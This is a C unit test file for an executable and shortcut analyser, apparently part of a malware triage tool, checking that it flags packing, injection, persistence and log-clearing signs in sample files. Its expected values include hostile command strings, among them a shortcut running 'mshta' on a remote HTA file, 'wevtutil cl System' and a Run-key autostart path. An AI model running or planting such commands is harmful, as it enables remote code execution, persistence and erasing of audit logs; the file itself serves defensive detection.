#include "program/program.h"

#include "lib/check.h"

static struct casefile_program
read_seed(struct arena *a, const char *name)
{
	struct casefile_program p = { 0 };
	enum program_kind kind;
	struct bytes kept;
	struct buf content;
	char path[200];
	(void)snprintf(path, sizeof path, "tests/corpus/program/%s", name);
	FILE *f = fopen(path, "rb");
	assert_non_null(f);
	buf_init(&content, (size_t)1 << 20);
	for (int c = fgetc(f); c != EOF; c = fgetc(f))
		buf_add_octet(&content, (uint8_t)c);
	(void)fclose(f);
	assert_true(arena_copy(a, buf_bytes(&content), &kept));
	buf_done(&content);
	assert_true(program_looks(kept, &kind));
	program_read(kind, kept, a, &p);
	return p;
}

#define BIT(sign) (1u << PROGRAM_##sign)

static void
each_file_shows_what_it_is(void **state)
{
	static const struct {
		const char *file;
		enum program_kind kind;
		const char *machine;
		uint32_t signs;
	} cases[] = {
		{ "plain.exe", PROGRAM_PE, "x86", 0 },
		{ "injects.exe", PROGRAM_PE, "x86", BIT(OVERLAY) | BIT(OVERLAY_ARCHIVE) | BIT(ICON_DOCUMENT) },
		{ "packed.exe", PROGRAM_PE, "x86", BIT(PACKED) | BIT(WRITABLE_CODE) | BIT(NO_IMPORTS) },
		{ "words.exe", PROGRAM_PE, "x86", BIT(AUTORUN) | BIT(COMMANDS) | BIT(LOG_CLEANING) | BIT(WEB) | BIT(NO_IMPORTS) },
		{ "signed.exe", PROGRAM_PE, "x86", BIT(SIGNED) },
		{ "astray.exe", PROGRAM_PE, "x86", BIT(ENTRY_ODD) },
		{ "cut.exe", PROGRAM_PE, "x86", BIT(DAMAGED) },
		{ "shell.lnk", PROGRAM_SHORTCUT, "", BIT(INTERPRETER) | BIT(MINIMIZED) | BIT(FOREIGN_ICON) },
		{ "plain.lnk", PROGRAM_SHORTCUT, "", 0 },
		{ "blanks.lnk", PROGRAM_SHORTCUT, "", BIT(INTERPRETER) | BIT(LONG_ARGUMENTS) | BIT(BLANK_ARGUMENTS) | BIT(OVERLAY) },
		{ "share.url", PROGRAM_LINK, "", BIT(REMOTE) },
		{ "web.url", PROGRAM_LINK, "", 0 },
		{ "tool.elf", PROGRAM_ELF, "x86-64", 0 },
		{ "app.macho", PROGRAM_MACHO, "arm64", BIT(SIGNED) },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct arena *a = arena_new((size_t)16 << 20);
		struct casefile_program p = read_seed(a, cases[i].file);
		/* What a shortcut's octets say of commands is said of its target. */
		uint32_t asked = p.kind == PROGRAM_SHORTCUT ? ~(BIT(COMMANDS) | BIT(WEB)) : ~0u;
		if (p.kind != cases[i].kind || (p.signs & asked) != cases[i].signs)
			print_error("%s: signs %x, want %x\n", cases[i].file, p.signs, cases[i].signs);
		assert_int_equal(p.kind, cases[i].kind);
		assert_int_equal(p.signs & asked, cases[i].signs);
		check_text(p.machine, cases[i].machine);
		arena_free(a);
	}
}

static void
names_versions_and_imports_are_read(void **state)
{
	struct arena *a = arena_new((size_t)16 << 20);
	struct casefile_program plain = read_seed(a, "plain.exe"), injects = read_seed(a, "injects.exe");
	check_text(plain.company, "Example Ltd");
	check_text(plain.original, "plain.exe");
	assert_int_equal(plain.import_count, 4);
	assert_int_equal(plain.import_hash.len, 16);
	assert_int_equal(plain.techniques.count, 0);
	check_text(injects.product, "发票");
	check_text(injects.icon, "pdf");
	assert_int_equal(injects.techniques.count, 1);
	check_text(injects.techniques.at[0], "T1055 process injection");
	assert_int_equal(injects.overlay, 604);
	check_text(read_seed(a, "packed.exe").packer, "UPX");
	check_text(read_seed(a, "tool.elf").techniques.at[0], "T1059 runs commands");
	arena_free(a);
}

static void
a_shortcut_tells_its_command_and_its_maker(void **state)
{
	struct arena *a = arena_new((size_t)16 << 20);
	struct casefile_program p = read_seed(a, "shell.lnk");
	check_text(p.target, "C:\\Windows\\System32\\cmd.exe");
	check_text(p.arguments, "/c mshta https://example.com/x.hta");
	check_text(p.icon, "C:\\a\\AcroRd32.exe");
	check_text(p.made_on, "lab-machine");
	check_text(read_seed(a, "web.url").target, "https://example.com/page");
	arena_free(a);
}

static void
strings_are_found_in_both_widths_and_boilerplate_is_not(void **state)
{
	static const char *const want[] = { "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "http://files.example.com/a.bin",
		"wevtutil cl System", "cmd.exe /c start" };
	struct arena *a = arena_new((size_t)16 << 20);
	struct casefile_program p = read_seed(a, "words.exe");
	assert_int_equal(p.strings.count, 4);
	for (size_t i = 0; i < 4; i++)
		check_text(p.strings.at[i].text, want[i]);
	/* A signature's addresses are its issuer's. */
	assert_int_equal(read_seed(a, "signed.exe").strings.count, 0);
	arena_free(a);
}

static void
members_tell_a_package(void **state)
{
	static const struct bytes names[] = { BYTES_INIT("META-INF/MANIFEST.MF"), BYTES_INIT("META-INF/A.RSA"),
		BYTES_INIT("a/B.class") };
	struct arena *a = arena_new((size_t)1 << 20);
	struct casefile_program p;
	program_of_members(PROGRAM_JAVA, names, 3, a, &p);
	assert_true(program_has(&p, PROGRAM_SIGNED));
	assert_int_equal(p.section_count, 1);
	arena_free(a);
}

static void
sections_beyond_the_ceiling_are_counted(void **state)
{
	struct arena *a = arena_new((size_t)1 << 20);
	struct bytes names[PROGRAM_SECTIONS_MAX + 1];
	struct casefile_program p;
	for (size_t i = 0; i < PROGRAM_SECTIONS_MAX + 1; i++)
		names[i] = BYTES("x.class");
	program_of_members(PROGRAM_JAVA, names, PROGRAM_SECTIONS_MAX, a, &p);
	assert_int_equal(p.sections.count, PROGRAM_SECTIONS_MAX);
	program_of_members(PROGRAM_JAVA, names, PROGRAM_SECTIONS_MAX + 1, a, &p);
	assert_int_equal(p.sections.count, PROGRAM_SECTIONS_MAX);
	assert_int_equal(p.section_count, PROGRAM_SECTIONS_MAX + 1);
	arena_free(a);
}

static void
interpreters_are_known_by_their_last_name(void **state)
{
	assert_true(program_is_interpreter(BYTES("%windir%\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe")));
	assert_true(program_is_interpreter(BYTES("mshta")));
	assert_false(program_is_interpreter(BYTES("C:\\tools\\mycmd.exe")));
	assert_false(program_is_interpreter(BYTES("")));
}

int
main(void)
{
	const struct CMUnitTest all[] = {
		cmocka_unit_test(each_file_shows_what_it_is),
		cmocka_unit_test(names_versions_and_imports_are_read),
		cmocka_unit_test(a_shortcut_tells_its_command_and_its_maker),
		cmocka_unit_test(strings_are_found_in_both_widths_and_boilerplate_is_not),
		cmocka_unit_test(members_tell_a_package),
		cmocka_unit_test(sections_beyond_the_ceiling_are_counted),
		cmocka_unit_test(interpreters_are_known_by_their_last_name),
	};
	return cmocka_run_group_tests(all, NULL, NULL);
}
